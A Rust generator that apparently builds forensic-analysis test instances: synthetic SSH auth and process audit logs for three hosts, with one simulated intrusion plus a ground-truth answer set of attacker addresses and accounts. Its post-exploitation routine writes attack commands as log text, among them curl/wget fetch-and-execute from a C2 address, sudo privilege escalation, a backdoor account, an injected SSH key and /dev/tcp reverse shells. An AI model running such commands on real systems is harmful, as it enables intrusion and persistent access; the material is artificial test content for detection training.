//! Builds one instance: the benign activity of three hosts, one intrusion
//! hidden in it, and the two logs that record both.

use alloc::collections::{BTreeMap, BTreeSet};
use alloc::format;
use alloc::string::{String, ToString};
use alloc::vec::Vec;
use core::fmt;

use airlock_task_sdk::rng::Rng;

/// An IPv4 address as a number, most significant octet first.
pub type Ip = u32;

/// The dotted-quad text of `ip`.
pub fn ip_text(ip: Ip) -> String {
    let [a, b, c, d] = ip.to_be_bytes();
    format!("{a}.{b}.{c}.{d}")
}

/// One generated instance.
#[derive(Debug, Clone)]
pub struct Scenario {
    /// The authentication log, one line per entry, in time order.
    pub auth_log: String,
    /// The process audit log, one line per process start, in time order.
    pub proc_log: String,
    /// Host names; the first is the one the intruder broke into.
    pub hosts: Vec<&'static str>,
    /// First and last timestamp of the window, as printed in the logs.
    pub window: (String, String),
    /// The vulnerability scanner's address.
    pub scanner: Ip,
    /// Every address the intruder used.
    pub attacker_ips: BTreeSet<Ip>,
    /// Every account the intruder controlled.
    pub attacker_accounts: BTreeSet<String>,
    /// External addresses that only failed to log in (background noise).
    pub noise_ips: Vec<Ip>,
    /// Accounts of legitimate users who logged in during the window.
    pub benign_accounts: Vec<&'static str>,
}

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

const TARGET_HOSTS: [&str; 6] = [
    "bastion01",
    "jump-eu1",
    "gw-prod-1",
    "sftp01",
    "ssh-edge2",
    "bastion-dmz",
];
const OTHER_HOSTS: [&str; 8] = [
    "web01",
    "web02",
    "db01",
    "ci-runner3",
    "mon01",
    "app-prod-2",
    "files01",
    "cache02",
];

const HUMANS: [&str; 22] = [
    "jsmith", "mchen", "apatel", "lnguyen", "rgarcia", "kowalski", "tbrown", "ewilson", "dkim",
    "sokafor", "hmuller", "fsilva", "ojones", "ytanaka", "bnovak", "cdiaz", "pmartin", "vrossi",
    "nahmed", "gwhite", "ikeller", "zlopez",
];
/// Service accounts that log in with a password: plausible spray victims.
const SERVICE_VICTIMS: [&str; 6] = [
    "deploy",
    "jenkins",
    "webadmin",
    "ftpuser",
    "svc_report",
    "builder",
];
const INVALID_NAMES: [&str; 14] = [
    "admin",
    "test",
    "oracle",
    "ubuntu",
    "user",
    "guest",
    "support",
    "pi",
    "ftp",
    "postgres",
    "hadoop",
    "minecraft",
    "teamspeak",
    "nagios",
];
const BACKDOOR_NAMES: [&str; 8] = [
    "sysupdate",
    "dbus-helper",
    "support2",
    "backupsvc",
    "nscd-admin",
    "systemd-netd",
    "ops-maint",
    "cachesvc",
];
/// First octets of the made-up public addresses.
const PUBLIC_FIRST_OCTETS: [u8; 24] = [
    5, 23, 31, 37, 45, 46, 62, 77, 78, 80, 85, 89, 91, 94, 103, 109, 139, 141, 176, 178, 185, 188,
    194, 212,
];

const USER_COMMANDS: [&str; 18] = [
    "git pull --ff-only",
    "git status",
    "vim config.yaml",
    "tail -n 50 /var/log/nginx/error.log",
    "df -h",
    "docker ps",
    "systemctl status nginx",
    "journalctl -u app --since today",
    "htop",
    "ls -la",
    "less /var/log/syslog",
    "python3 manage.py showmigrations",
    "kubectl get pods -n web",
    "psql -h 10.10.2.14 -U app appdb",
    "curl -s http://10.10.1.20:9100/metrics",
    "scp build.tar.gz 10.10.3.7:/srv/releases/",
    "crontab -e",
    "tmux attach",
];
const SUDO_COMMANDS: [&str; 5] = [
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/apt-get update",
    "/usr/bin/journalctl -u ssh",
    "/usr/bin/systemctl reload haproxy",
    "/usr/bin/tail -n 100 /var/log/auth.log",
];
const RECON: [&str; 7] = [
    "id",
    "uname -a",
    "w",
    "cat /etc/os-release",
    "ls -la /home",
    "sudo -l",
    "ps aux",
];
const DROPPER_NAMES: [&str; 5] = ["s.sh", "x", "lp.sh", "up.sh", "i.sh"];
const DROPPER_PORTS: [u32; 5] = [80, 8000, 8080, 8443, 443];
const CALLBACK_PORTS: [u32; 4] = [443, 4444, 9001, 53];

/// A process id as generated: a placeholder that rendering replaces with a
/// real-looking pid, so that pids grow with time on each host whatever the
/// order in which events were generated.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
struct Pid(u32);

/// Marks a [`Pid`] placeholder in generated text.
const PID_OPEN: char = '\u{1}';
const PID_CLOSE: char = '\u{2}';

impl fmt::Display for Pid {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{PID_OPEN}{}{PID_CLOSE}", self.0)
    }
}

/// Which log a line goes to.
#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug)]
enum Log {
    Auth,
    Proc,
}

struct Line {
    t: u32,
    seq: u32,
    log: Log,
    host: usize,
    text: String,
}

struct Gen<'r> {
    rng: &'r mut Rng,
    lines: Vec<Line>,
    next_pid: u32,
    /// The client port of each sshd connection, by its pid.
    ports: BTreeMap<Pid, u32>,
    used_ips: BTreeSet<Ip>,
    hosts: Vec<&'static str>,
}

/// A shell session: where its commands run and who runs them.
#[derive(Clone, Copy)]
struct Shell {
    host: usize,
    pid: Pid,
    user: &'static str,
}

impl Gen<'_> {
    fn below(&mut self, n: u32) -> u32 {
        self.rng.below(u64::from(n)) as u32
    }

    fn between(&mut self, low: u32, high: u32) -> u32 {
        self.rng.range_inclusive(u64::from(low), u64::from(high)) as u32
    }

    fn index(&mut self, len: usize) -> usize {
        self.rng.index(len)
    }

    fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        let i = self.rng.index(items.len());
        items[i]
    }

    fn pid(&mut self) -> Pid {
        self.next_pid += 1;
        Pid(self.next_pid)
    }

    /// The client port of connection `sshd`: one per connection.
    fn port(&mut self, sshd: Pid) -> u32 {
        if let Some(&port) = self.ports.get(&sshd) {
            return port;
        }
        let port = self.between(32_768, 60_999);
        self.ports.insert(sshd, port);
        port
    }

    fn push(&mut self, t: u32, log: Log, host: usize, text: String) {
        let seq = self.lines.len() as u32;
        self.lines.push(Line {
            t,
            seq,
            log,
            host,
            text,
        });
    }

    fn auth(&mut self, t: u32, host: usize, text: String) {
        self.push(t, Log::Auth, host, text);
    }

    /// Records a process start and returns its pid.
    fn exec(&mut self, t: u32, host: usize, ppid: impl fmt::Display, user: &str, cmd: &str) -> Pid {
        let pid = self.pid();
        self.push(
            t,
            Log::Proc,
            host,
            format!("exec: pid={pid} ppid={ppid} user={user} cmd={cmd}"),
        );
        pid
    }

    fn fresh_ip(&mut self, make: impl Fn(&mut Rng) -> Ip) -> Ip {
        loop {
            let ip = make(self.rng);
            if self.used_ips.insert(ip) {
                return ip;
            }
        }
    }

    fn public_ip(&mut self) -> Ip {
        self.fresh_ip(|rng| {
            let first = PUBLIC_FIRST_OCTETS[rng.index(PUBLIC_FIRST_OCTETS.len())];
            let rest = rng.next_u32() & 0x00ff_ff00;
            (u32::from(first) << 24) | rest | (1 + rng.below(253) as u32)
        })
    }

    fn office_ip(&mut self) -> Ip {
        self.fresh_ip(|rng| {
            0x0a14_0000 | ((rng.below(32) as u32) << 8) | (2 + rng.below(248) as u32)
        })
    }

    /// `sshd[pid]: Accepted ...` and the PAM session line; the shell's pid.
    #[allow(clippy::too_many_arguments)]
    fn login(
        &mut self,
        t: u32,
        host: usize,
        user: &'static str,
        uid: u32,
        ip: Ip,
        key: Option<&str>,
        sshd: Pid,
    ) -> Shell {
        let port = self.port(sshd);
        let ip = ip_text(ip);
        let text = match key {
            Some(fp) => format!(
                "sshd[{sshd}]: Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{fp}"
            ),
            None => {
                format!("sshd[{sshd}]: Accepted password for {user} from {ip} port {port} ssh2")
            }
        };
        self.auth(t, host, text);
        self.auth(
            t,
            host,
            format!(
                "sshd[{sshd}]: pam_unix(sshd:session): session opened for user {user}(uid={uid}) by (uid=0)"
            ),
        );
        let pid = self.exec(t + 1, host, sshd, user, "-bash");
        Shell { host, pid, user }
    }

    /// One failed password attempt, as sshd logs it for a valid or an
    /// unknown user.
    fn failure(&mut self, t: u32, host: usize, user: &str, valid: bool, ip: Ip, sshd: Pid) {
        let port = self.port(sshd);
        let ip = ip_text(ip);
        if valid {
            self.auth(
                t,
                host,
                format!("sshd[{sshd}]: Failed password for {user} from {ip} port {port} ssh2"),
            );
        } else {
            self.auth(
                t,
                host,
                format!("sshd[{sshd}]: Invalid user {user} from {ip} port {port}"),
            );
            self.auth(
                t + 2,
                host,
                format!(
                    "sshd[{sshd}]: Failed password for invalid user {user} from {ip} port {port} ssh2"
                ),
            );
        }
    }

    fn sudo(&mut self, t: u32, shell: Shell, tty: u32, command: &str) {
        self.auth(
            t,
            shell.host,
            format!(
                "sudo: {} : TTY=pts/{tty} ; PWD=/home/{} ; USER=root ; COMMAND={command}",
                shell.user, shell.user
            ),
        );
    }

    fn fingerprint(&mut self) -> String {
        const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        (0..43)
            .map(|_| char::from(B64[self.rng.index(64)]))
            .collect()
    }
}

/// A legitimate user of the hosts.
struct Person {
    name: &'static str,
    uid: u32,
    ip: Ip,
    key: String,
}

/// Draws the instance for `rng`.
pub fn generate(rng: &mut Rng) -> Scenario {
    let mut g = Gen {
        rng,
        lines: Vec::new(),
        next_pid: 0,
        ports: BTreeMap::new(),
        used_ips: BTreeSet::new(),
        hosts: Vec::new(),
    };
    let target = g.pick(&TARGET_HOSTS);
    let mut others = OTHER_HOSTS.to_vec();
    g.rng.shuffle(&mut others);
    g.hosts = alloc::vec![target, others[0], others[1]];

    let month = g.pick(&MONTHS);
    let day = g.between(1, 28);
    // A seven-hour window somewhere in the day.
    let w0 = g.between(0, 16) * 3600 + g.below(3600);
    let w1 = w0 + 7 * 3600;

    // Accounts: the victim, legitimate people, an automation account.
    let mut humans = HUMANS.to_vec();
    g.rng.shuffle(&mut humans);
    let victim_is_human = g.below(2) == 0;
    let victim: &'static str = if victim_is_human {
        humans[0]
    } else {
        g.pick(&SERVICE_VICTIMS)
    };
    let victim_uid = 1_000 + g.between(1, 40);
    let mut people: Vec<Person> = Vec::new();
    let first_person = usize::from(victim_is_human);
    for (k, &name) in humans.iter().enumerate().skip(first_person).take(8) {
        let ip = g.office_ip();
        let key = g.fingerprint();
        people.push(Person {
            name,
            uid: 1_041 + k as u32,
            ip,
            key,
        });
    }
    let new_hire = humans[first_person + 8];

    let t_attack = g.between(w0 + 1800, w1 - 3 * 3600 - 1200);
    let n_spray: u32 = match g.below(20) {
        0..=4 => 1,
        5..=12 => 2,
        _ => 3,
    };

    // ------------------------------------------------------------ benign
    if victim_is_human {
        // The victim's own, legitimate session before the intrusion.
        let ip = g.office_ip();
        let t = g.between(w0, t_attack - 600);
        let sshd = g.pid();
        let fp = g.fingerprint();
        let shell = g.login(t, 0, victim, victim_uid, ip, Some(&fp), sshd);
        let cmd = g.pick(&USER_COMMANDS);
        let at = t + g.between(5, 90);
        g.exec(at, 0, shell.pid, victim, cmd);
    }
    let mut benign_accounts: Vec<&'static str> = Vec::new();
    // Fewer benign sessions when the spraying is loud: keeps the prompt small.
    let sessions = (g.between(8, 10) - n_spray / 2) as usize;
    let home_worker = g.index(people.len());
    let mut sudo_left = 2;
    let mut typos_left = 2;
    let mut created_new_hire = g.below(2) == 0;
    for s in 0..sessions {
        let k = s % people.len();
        let t = g.between(w0 + 60, w1 - 600);
        let host = if s % 3 == 0 { 0 } else { 1 + g.index(2) };
        let person = &people[k];
        let (name, uid, key) = (person.name, person.uid, person.key.clone());
        let mut ip = person.ip;
        if k == home_worker && s < people.len() {
            // Works from home through the bastion: external, but benign.
            ip = g.public_ip();
        }
        let password = g.below(3) == 0;
        let sshd = g.pid();
        if password && typos_left > 0 && ip == person.ip {
            typos_left -= 1;
            for i in 0..g.between(1, 2) {
                g.failure(t + i * 4, host, name, true, ip, sshd);
            }
        }
        let key = (!password).then_some(key.as_str());
        let shell = g.login(t + 9, host, name, uid, ip, key, sshd);
        if !benign_accounts.contains(&name) {
            benign_accounts.push(name);
        }
        let cmd = g.pick(&USER_COMMANDS);
        let mut t2 = t + 9 + g.between(5, 90);
        g.exec(t2, host, shell.pid, name, cmd);
        if sudo_left > 0 && g.below(3) == 0 {
            sudo_left -= 1;
            t2 += g.between(20, 300);
            let command = g.pick(&SUDO_COMMANDS);
            let tty = g.between(0, 4);
            g.sudo(t2, shell, tty, command);
            let short = command.strip_prefix("/usr/bin/").unwrap_or(command);
            g.exec(t2, host, shell.pid, name, &format!("sudo {short}"));
        } else if created_new_hire && host != 0 {
            // A legitimate account creation: not the intruder's.
            created_new_hire = false;
            t2 += g.between(20, 300);
            let tty = g.between(0, 4);
            g.sudo(
                t2,
                shell,
                tty,
                &format!("/usr/sbin/useradd -m -s /bin/bash {new_hire}"),
            );
            let sudo = g.exec(
                t2,
                host,
                shell.pid,
                name,
                &format!("sudo useradd -m -s /bin/bash {new_hire}"),
            );
            let pid = g.exec(
                t2,
                host,
                sudo,
                "root",
                &format!("useradd -m -s /bin/bash {new_hire}"),
            );
            let uid = g.between(1_100, 1_199);
            g.auth(
                t2 + 1,
                host,
                format!(
                    "useradd[{pid}]: new user: name={new_hire}, UID={uid}, GID={uid}, \
                     home=/home/{new_hire}, shell=/bin/bash, from=/dev/pts/{tty}"
                ),
            );
        }
    }

    // Automation from the server range.
    let ansible_ip = 0x0a0a_0000 | (g.between(0, 3) << 8) | g.between(2, 30);
    g.used_ips.insert(ansible_ip);
    let t = g.between(w0 + 300, w1 - 300);
    let host = g.index(3);
    let sshd = g.pid();
    let fp = g.fingerprint();
    let shell = g.login(t, host, "ansible", 998, ansible_ip, Some(&fp), sshd);
    g.exec(
        t + 2,
        host,
        shell.pid,
        "ansible",
        "/usr/bin/python3 /home/ansible/.ansible/tmp/AnsiballZ_setup.py",
    );

    // Cron on every host, and an off-site backup to an external address.
    let backup_target = g.public_ip();
    let skipped_job = g.index(2) + 2;
    for k in (0..4).filter(|&k| k != skipped_job) {
        let host = k % 3;
        let t = w0 + 3600 * (1 + g.between(0, 5)) + 60 * g.below(3);
        let cron = g.pid();
        let (user, uid, cmd) = match k {
            0 => (
                "root",
                0,
                "/bin/sh -c cd / && run-parts --report /etc/cron.hourly".to_string(),
            ),
            1 => (
                "backup",
                34,
                format!(
                    "rsync -az /srv/backup/ backup@{}:/vault/",
                    ip_text(backup_target)
                ),
            ),
            2 => (
                "root",
                0,
                "/usr/sbin/logrotate /etc/logrotate.conf".to_string(),
            ),
            _ => ("root", 0, "/usr/local/bin/pg_backup.sh".to_string()),
        };
        g.auth(
            t,
            host,
            format!(
                "CRON[{cron}]: pam_unix(cron:session): session opened for user {user}(uid={uid}) by (uid=0)"
            ),
        );
        g.exec(t, host, cron, user, &cmd);
    }

    // The web application shells out to make thumbnails.
    // A long-running daemon: its pid is small and printed as is.
    let fpm = 700 + g.below(200);
    let web = 1 + g.index(2);
    for _ in 0..2 {
        let t = g.between(w0, w1 - 60);
        let n = g.between(1_000, 99_999);
        g.exec(
            t,
            web,
            fpm,
            "www-data",
            &format!(
                "sh -c convert /var/www/app/uploads/{n}.jpg -resize 320x240 /var/www/app/thumbs/{n}.jpg"
            ),
        );
    }

    // Internet background noise against the exposed host.
    let mut noise_ips = Vec::new();
    for _ in 0..g.between(2, 4) {
        let ip = g.public_ip();
        noise_ips.push(ip);
        let mut t = g.between(w0, w1 - 600);
        for _ in 0..g.between(1, 2) {
            let sshd = g.pid();
            if g.below(2) == 0 {
                g.failure(t, 0, "root", true, ip, sshd);
            } else {
                let name = g.pick(&INVALID_NAMES);
                g.failure(t, 0, name, false, ip, sshd);
            }
            t += g.between(3, 40);
        }
    }

    // The vulnerability scanner: fails everywhere, quickly.
    let scanner = 0x0a00_0900 | g.between(10, 60);
    g.used_ips.insert(scanner);
    let mut t = g.between(w0, w1 - 900);
    for host in 0..2 {
        let mut names = INVALID_NAMES.to_vec();
        g.rng.shuffle(&mut names);
        let sshd = g.pid();
        g.failure(t, host, "root", true, scanner, sshd);
        for name in names.iter().take(2 - host) {
            t += g.between(1, 4);
            let sshd = g.pid();
            g.failure(t, host, name, false, scanner, sshd);
        }
        t += g.between(20, 90);
    }

    // ------------------------------------------------------------ attack
    let mut attacker_ips = BTreeSet::new();
    let mut attacker_accounts = BTreeSet::new();
    attacker_accounts.insert(victim.to_string());

    let spray: Vec<Ip> = (0..n_spray).map(|_| g.public_ip()).collect();
    attacker_ips.extend(spray.iter().copied());
    // Sometimes the first spraying box also serves the payloads.
    let c2 = if g.below(4) == 0 {
        spray[0]
    } else {
        g.public_ip()
    };
    attacker_ips.insert(c2);

    // Spray targets: people, the victim, and names that do not exist.
    let mut valid_targets: Vec<&'static str> = people.iter().map(|p| p.name).collect();
    valid_targets.push("root");
    let mut success_at = 0;
    let mut persist = Persistence::default();
    for (i, &ip) in spray.iter().enumerate() {
        let mut targets: Vec<(&'static str, bool)> = Vec::new();
        let mut valid = valid_targets.clone();
        g.rng.shuffle(&mut valid);
        let mut invalid = INVALID_NAMES.to_vec();
        g.rng.shuffle(&mut invalid);
        let n_valid = g.between(2, 3) as usize;
        let n_invalid = g.between(1, 2) as usize;
        targets.extend(valid.iter().take(n_valid).map(|&n| (n, true)));
        targets.extend(invalid.iter().take(n_invalid).map(|&n| (n, false)));
        g.rng.shuffle(&mut targets);
        if i == 0 || g.below(2) == 0 {
            targets.push((victim, true));
        } else {
            // Another spraying box that also tried the victim, earlier on.
            targets.insert(0, (victim, true));
        }
        let mut t = t_attack + i as u32 * g.between(30, 200);
        let last = targets.len() - 1;
        for (k, &(name, valid)) in targets.iter().enumerate() {
            let sshd = g.pid();
            if i == 0 && k == last {
                success_at = t;
                let shell = g.login(t, 0, victim, victim_uid, ip, None, sshd);
                persist = post_exploitation(&mut g, shell, t, c2, victim);
            } else {
                g.failure(t, 0, name, valid, ip, sshd);
            }
            t += g.between(25, 140);
        }
    }

    // Later logins from the other boxes, and through the persistence.
    if let Some(name) = persist.backdoor {
        attacker_accounts.insert(name.to_string());
    }
    let mut logins: Vec<(Ip, &'static str)> =
        spray.iter().skip(1).map(|&ip| (ip, victim)).collect();
    if let Some(name) = persist.backdoor {
        let ip = spray[g.index(spray.len())];
        logins.push((ip, name));
    } else if persist.key.is_some() && logins.is_empty() {
        logins.push((spray[0], victim));
    }
    g.rng.shuffle(&mut logins);
    let mut t = success_at + g.between(1_800, 3_600);
    for (ip, user) in logins {
        let sshd = g.pid();
        let uid = if user == victim {
            victim_uid
        } else {
            persist.backdoor_uid
        };
        let key = if user == victim {
            persist.key.as_deref()
        } else {
            None
        };
        let shell = g.login(t, 0, user, uid, ip, key, sshd);
        let cmd = g.pick(&[
            "w",
            "ls -la /tmp",
            "cat /etc/shadow",
            "last -n 20",
            "ss -tnp",
        ]);
        let at = t + g.between(4, 30);
        g.exec(at, 0, shell.pid, user, cmd);
        t += g.between(300, 1_200);
    }

    // -------------------------------------------------------------- render
    let hosts = g.hosts.clone();
    let mut lines = core::mem::take(&mut g.lines);
    lines.sort_by_key(|l| (l.t, l.seq));
    // Pids in order of first appearance, from a separate counter per host.
    let mut next: Vec<u32> = (0..hosts.len()).map(|_| g.between(1_000, 20_000)).collect();
    let mut real: BTreeMap<u32, u32> = BTreeMap::new();
    for line in &mut lines {
        if line.text.contains(PID_OPEN) {
            let counter = &mut next[line.host];
            line.text = resolve_pids(&line.text, |id| {
                *real.entry(id).or_insert_with(|| {
                    *counter += 1 + (id.wrapping_mul(2_654_435_761) >> 27);
                    *counter
                })
            });
        }
    }
    let stamp = |t: u32| {
        format!(
            "{month} {day:>2} {:02}:{:02}:{:02}",
            t / 3600 % 24,
            t / 60 % 60,
            t % 60
        )
    };
    let mut auth_log = String::new();
    let mut proc_log = String::new();
    for line in &lines {
        let out = match line.log {
            Log::Auth => &mut auth_log,
            Log::Proc => &mut proc_log,
        };
        out.push_str(&stamp(line.t));
        out.push(' ');
        out.push_str(hosts[line.host]);
        out.push(' ');
        out.push_str(&line.text);
        out.push('\n');
    }
    Scenario {
        auth_log,
        proc_log,
        hosts,
        window: (stamp(w0), stamp(w1)),
        scanner,
        attacker_ips,
        attacker_accounts,
        noise_ips,
        benign_accounts,
    }
}

/// `text` with every [`Pid`] placeholder replaced by `real(id)`.
fn resolve_pids(text: &str, mut real: impl FnMut(u32) -> u32) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(open) = rest.find(PID_OPEN) {
        out.push_str(&rest[..open]);
        let after = &rest[open + PID_OPEN.len_utf8()..];
        let close = after.find(PID_CLOSE).unwrap_or(after.len());
        let id = after[..close].parse().unwrap_or(0);
        out.push_str(&format!("{}", real(id)));
        rest = after.get(close + PID_CLOSE.len_utf8()..).unwrap_or("");
    }
    out.push_str(rest);
    out
}

/// What the intruder does in the victim's first session: look around,
/// fetch a payload from the C2 address, become root, and stay.
fn post_exploitation(
    g: &mut Gen<'_>,
    shell: Shell,
    t0: u32,
    c2: Ip,
    victim: &'static str,
) -> Persistence {
    let host = shell.host;
    let c2 = ip_text(c2);
    let mut t = t0 + g.between(20, 120);
    let mut recon = RECON.to_vec();
    g.rng.shuffle(&mut recon);
    for cmd in recon.iter().take(2) {
        g.exec(t, host, shell.pid, victim, cmd);
        t += g.between(5, 40);
    }
    let mut dropped: Vec<String> = Vec::new();
    let file = g.pick(&DROPPER_NAMES);
    let port = g.pick(&DROPPER_PORTS);
    let url = if port == 80 {
        format!("http://{c2}/{file}")
    } else {
        format!("http://{c2}:{port}/{file}")
    };
    if g.below(2) == 0 {
        g.exec(t, host, shell.pid, victim, &format!("curl -fsSL {url}"));
        g.exec(t, host, shell.pid, victim, "sh");
    } else {
        g.exec(
            t,
            host,
            shell.pid,
            victim,
            &format!("wget -q {url} -O /dev/shm/.{file}"),
        );
        t += g.between(2, 10);
        g.exec(t, host, shell.pid, victim, &format!("sh /dev/shm/.{file}"));
        dropped.push(format!("/dev/shm/.{file}"));
    }
    t += g.between(30, 180);

    // Privilege escalation: the root shell's pid.
    let tty = g.between(0, 5);
    let root_shell = match g.below(3) {
        0 => {
            let command = "/usr/bin/find . -exec /bin/sh -p ; -quit";
            g.sudo(t, shell, tty, command);
            let sudo = g.exec(
                t,
                host,
                shell.pid,
                victim,
                "sudo find . -exec /bin/sh -p ; -quit",
            );
            let find = g.exec(t, host, sudo, "root", "find . -exec /bin/sh -p ; -quit");
            g.exec(t + 1, host, find, "root", "/bin/sh -p")
        }
        1 => {
            g.sudo(t, shell, tty, "/usr/bin/su -");
            let sudo = g.exec(t, host, shell.pid, victim, "sudo su -");
            let su = g.exec(t, host, sudo, "root", "su -");
            g.exec(t + 1, host, su, "root", "-bash")
        }
        _ => {
            let port = g.pick(&DROPPER_PORTS);
            g.exec(
                t,
                host,
                shell.pid,
                victim,
                &format!("wget -q http://{c2}:{port}/pk -O /tmp/.pk"),
            );
            t += g.between(2, 8);
            g.exec(t, host, shell.pid, victim, "chmod +x /tmp/.pk");
            t += g.between(1, 5);
            let exploit = g.exec(t, host, shell.pid, victim, "/tmp/.pk");
            dropped.push("/tmp/.pk".to_string());
            g.exec(t + 1, host, exploit, "root", "/bin/sh")
        }
    };
    t += g.between(20, 120);

    let mut persist = Persistence::default();
    match g.below(4) {
        0 => {
            let name = g.pick(&BACKDOOR_NAMES);
            persist.backdoor = Some(name);
            let pid = g.exec(
                t,
                host,
                root_shell,
                "root",
                &format!("useradd -m -s /bin/bash -G sudo {name}"),
            );
            let uid = g.between(1_200, 1_249);
            persist.backdoor_uid = uid;
            g.auth(
                t + 1,
                host,
                format!(
                    "useradd[{pid}]: new user: name={name}, UID={uid}, GID={uid}, \
                     home=/home/{name}, shell=/bin/bash, from=/dev/pts/{tty}"
                ),
            );
            g.auth(
                t + 1,
                host,
                format!("useradd[{pid}]: add '{name}' to group 'sudo'"),
            );
            t += g.between(5, 30);
            g.exec(t, host, root_shell, "root", &format!("passwd {name}"));
        }
        1 => {
            let key: String = g
                .fingerprint()
                .chars()
                .filter(|c| c.is_alphanumeric())
                .collect();
            // The key's fingerprint as sshd will log it on the next login.
            persist.key = Some(g.fingerprint());
            g.exec(
                t,
                host,
                root_shell,
                "root",
                &format!(
                    "sh -c echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{key}' >> /home/{victim}/.ssh/authorized_keys"
                ),
            );
        }
        2 => {
            let port = g.pick(&CALLBACK_PORTS);
            g.exec(
                t,
                host,
                root_shell,
                "root",
                &format!(
                    "sh -c (crontab -l; echo '*/15 * * * * /bin/bash -c \"bash -i >& /dev/tcp/{c2}/{port} 0>&1\"') | crontab -"
                ),
            );
        }
        _ => {
            let port = g.pick(&CALLBACK_PORTS);
            g.exec(
                t,
                host,
                root_shell,
                "root",
                &format!("nohup bash -c \"bash -i >& /dev/tcp/{c2}/{port} 0>&1\""),
            );
            t += g.between(5, 30);
            g.exec(
                t,
                host,
                root_shell,
                "root",
                "cp /dev/shm/.svc /etc/systemd/system/dbus-org.freedesktop.helper.service",
            );
            t += g.between(2, 10);
            g.exec(
                t,
                host,
                root_shell,
                "root",
                "systemctl enable --now dbus-org.freedesktop.helper",
            );
        }
    }
    if !dropped.is_empty() {
        t += g.between(10, 60);
        g.exec(
            t,
            host,
            root_shell,
            "root",
            &format!("rm -f {}", dropped.join(" ")),
        );
    }
    persist
}

/// How the intruder made sure to get back in.
#[derive(Default)]
struct Persistence {
    /// An account they created.
    backdoor: Option<&'static str>,
    backdoor_uid: u32,
    /// The fingerprint of an SSH key they added for the victim.
    key: Option<String>,
}
